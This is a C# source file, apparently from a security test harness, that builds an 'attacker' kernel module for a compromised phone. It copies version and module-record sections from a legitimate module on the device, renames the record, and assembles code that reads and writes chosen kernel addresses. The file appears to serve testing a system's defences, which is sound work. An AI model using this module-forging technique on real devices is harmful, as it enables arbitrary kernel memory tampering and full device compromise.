using System.Text;
using System.Text.RegularExpressions;
using Redoubt.Tool;

namespace Redoubt.Systems;

/// <summary>
/// The attacker's kernel module (tests/programs/Attacker/kernel.S), made for the very kernel that runs: the record that a module has of itself, and what it says of
/// kernel and interfaces, are taken from one of that kernel's own.
/// </summary>
internal static class KernelModule
{
    private const string Model = "virtio_console", Name = "attacker", Record = ".gnu.linkonce.this_module";

    /// <summary>Builds it.</summary>
    /// <param name="phone">The phone whose kernel is to load it.</param>
    /// <param name="targets">Addresses that it is to read and write at.</param>
    public static byte[] Build(CompromisedPhone phone, IEnumerable<ulong> targets)
    {
        string folder = Directory.CreateTempSubdirectory("redoubt-module-").FullName;
        try
        {
            string Place(string name) => Path.Combine(folder, name);
            string model = Place("model.ko");
            File.WriteAllBytes(model, phone.Take($"/lib/modules/{Model}.ko"));
            Run("aarch64-linux-gnu-objcopy", "--dump-section", $".modinfo={Place("modinfo")}", "--dump-section", $"__versions={Place("versions")}", "--dump-section", $"{Record}={Place("module")}", model, "/dev/null");
            Rename(Place("module"));
            File.WriteAllBytes(Place("targets"), [.. targets.SelectMany(BitConverter.GetBytes)]);
            // Where the record has the address of the first function.
            string relocations = Run("aarch64-linux-gnu-readelf", "--relocs", "--wide", model);
            string own = relocations[relocations.IndexOf($"'.rela{Record}'", StringComparison.Ordinal)..];
            string start = Regex.Match(own, "^([0-9a-f]+) .* init_module ", RegexOptions.Multiline).Groups[1].Value;
            return AttackerProgram.Build("kernel.S", "-c", $"-DINIT=0x{start}", $"-Wa,-I,{folder}");
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static void Rename(string file)
    {
        byte[] record = File.ReadAllBytes(file);
        Span<byte> name = record.AsSpan(record.AsSpan().IndexOf(Encoding.ASCII.GetBytes(Model)), Model.Length);
        name.Clear();
        Encoding.ASCII.GetBytes(Name).CopyTo(name);
        File.WriteAllBytes(file, record);
    }

    private static string Run(string program, params string[] arguments)
    {
        Subprocess.Result result = Subprocess.Run(program, arguments);
        return result.Status == 0 ? result.Output : throw new InvalidOperationException(result.Text);
    }
}
